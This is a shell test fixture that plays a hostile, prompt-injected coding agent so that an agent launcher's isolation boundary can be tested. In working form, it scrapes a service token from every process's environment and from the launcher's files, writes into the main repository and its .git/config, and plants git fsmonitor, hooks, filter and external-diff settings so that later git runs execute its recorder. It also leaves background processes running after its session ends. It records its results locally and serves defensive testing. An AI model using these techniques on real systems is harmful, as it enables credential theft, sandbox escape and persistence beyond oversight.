#!/bin/sh
# A hostile fake agent, for the tests of the agent boundary. It tries what
# a prompt-injected agent would, records what it got in $2 (a folder
# anyone may write) and exits 0 as if it had done its work:
#   - steal the service token: from every process's environment (the
#     launcher's among them), from the launcher's environment file ($3),
#     from the launcher's state files in its log folder ($4);
#   - look at the other tasks' folders beside its own ($2/siblings);
#   - write outside its folder: the repository's main checkout and its
#     .git/config ($5), the launcher's log folder;
#   - make git run a recorder of its own when the launcher runs git after
#     it ended: mode "config" sets core.fsmonitor, core.hooksPath and a
#     clean filter for every file in its clone's own .git/config; mode
#     "gitfile" moves its .git away and replaces it with a file pointing
#     there, where the same configuration waits.
# The recorder appends "<uid> <what>" to $2/ran, its environment to
# $2/ran-env and what it sees beside the clone to $2/ran-siblings; once, it
# leaves a process that holds git's stderr open. The agent leaves a
# process running in the background ($2/background-pid). It also copies the prompt file it is given to $2/prompt. Usage:
#   fake-agent-hostile.sh {workdir} RECORDS ENV_FILE LOG_DIR REPO MODE
wd=$1 rec=$2 envfile=$3 logdir=$4 repo=$5 mode=$6
cat > /dev/null
cd "$wd" || exit 1
id -u > "$rec/agent-uid"
env > "$rec/agent-env"
cat "$OPS_PROMPT_FILE" > "$rec/prompt" 2>&1

for p in /proc/[0-9]*; do
  tr '\0' '\n' < "$p/environ" 2>/dev/null | grep '^OPS_SERVICE_TOKEN=' >> "$rec/stolen"
done
cat "$envfile" >> "$rec/stolen" 2>/dev/null
cat "$logdir"/*.state.json "$logdir"/*.run.json >> "$rec/stolen" 2>/dev/null
ls -a "$logdir" > "$rec/listed" 2>/dev/null
ls -a "$(dirname "$wd")" > "$rec/siblings" 2>/dev/null

echo pwned > "$repo/pwned.txt" 2>/dev/null && echo "$repo/pwned.txt" >> "$rec/escaped"
printf '[core]\n\tfsmonitor = %s/recorder.sh\n' "$rec" >> "$repo/.git/config" 2>/dev/null \
  && echo "$repo/.git/config" >> "$rec/escaped"
echo x > "$logdir/injected" 2>/dev/null && echo "$logdir/injected" >> "$rec/escaped"
for f in "$logdir"/*.run.json; do
  [ -e "$f" ] && echo '{}' > "$f" 2>/dev/null && echo "$f" >> "$rec/escaped"
done

cat > "$rec/recorder.sh" <<EOF
#!/bin/sh
echo "\$(id -u) \$1" >> "$rec/ran"
env >> "$rec/ran-env"
# One write per listing: two git runs at once must not interleave theirs.
siblings=\$(ls -a .. 2>/dev/null)
printf -- '--\n%s\n' "\$siblings" >> "$rec/ran-siblings"
# Once: a process of its own session that holds git's stderr open.
if mkdir "$rec/held" 2>/dev/null; then setsid sleep 30 </dev/null >/dev/null & fi
cat
EOF
chmod 755 "$rec/recorder.sh"
mkdir -p "$rec/hooks"
for h in pre-commit post-commit commit-msg post-checkout; do
  printf '#!/bin/sh\n%s/recorder.sh hook-%s </dev/null\n' "$rec" "$h" > "$rec/hooks/$h"
  chmod 755 "$rec/hooks/$h"
done

if [ "$mode" = gitfile ]; then
  mv .git "$rec/elsewhere.git"
  gitdir="$rec/elsewhere.git"
  printf 'gitdir: %s\n' "$gitdir" > .git
else
  gitdir=.git
fi
git config --file "$gitdir/config" core.fsmonitor "$rec/recorder.sh fsmonitor"
git config --file "$gitdir/config" core.hooksPath "$rec/hooks"
git config --file "$gitdir/config" filter.rec.clean "$rec/recorder.sh filter"
git config --file "$gitdir/config" filter.rec.smudge cat
git config --file "$gitdir/config" diff.rec.textconv "$rec/recorder.sh textconv"
git config --file "$gitdir/config" diff.external "$rec/recorder.sh external-diff"
printf '* filter=rec diff=rec\n' > .gitattributes
# Left running in the background, in the run's session.
sleep 600 </dev/null >/dev/null 2>&1 &
echo $! > "$rec/background-pid"
echo "hostile work" > hostile.txt
echo "fake agent: hostile run ($mode) done in $(pwd)"
exit 0
